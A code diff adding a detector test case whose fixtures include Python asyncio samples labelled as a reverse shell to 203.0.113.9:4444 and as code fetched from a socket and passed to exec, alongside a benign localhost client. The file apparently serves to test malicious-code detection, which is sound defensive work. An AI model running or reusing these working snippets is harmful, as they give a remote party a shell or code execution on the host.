@@ -100,5 +100,27 @@ TEST(MaliciousSpellings, PathlibRansomwareWithCipherContexts) {
   for (const auto& c : cases) check(c);
 }
 
+// asyncio.open_connection gives a reader (data from the network) and a
+// writer (a socket): a shell's output relayed to it is a reverse shell.
+TEST(MaliciousSpellings, AsyncioStreams) {
+  const Case cases[] = {
+      {"asyncio relay between a connection and /bin/sh", B,
+       "import asyncio\nasync def main():\n    reader, writer = await asyncio.open_connection('203.0.113.9', 4444)\n"
+       "    proc = await asyncio.create_subprocess_exec('/bin/sh', stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE)\n"
+       "    while True:\n        line = await reader.readline()\n        proc.stdin.write(line)\n"
+       "        out = await proc.stdout.readline()\n        writer.write(out)\nasyncio.run(main())\n",
+       "REVERSE-SHELL"},
+      {"code read from a stream and executed", B,
+       "import asyncio\nasync def main():\n    r, w = await asyncio.open_connection('203.0.113.9', 8000)\n"
+       "    exec(await r.read())\nasyncio.run(main())\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"an ordinary line protocol client", L,
+       "import asyncio\nasync def main():\n    r, w = await asyncio.open_connection('127.0.0.1', 7070)\n"
+       "    w.write(b'STATUS build1 ok\\n')\n    print(await r.readline())\nasyncio.run(main())\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
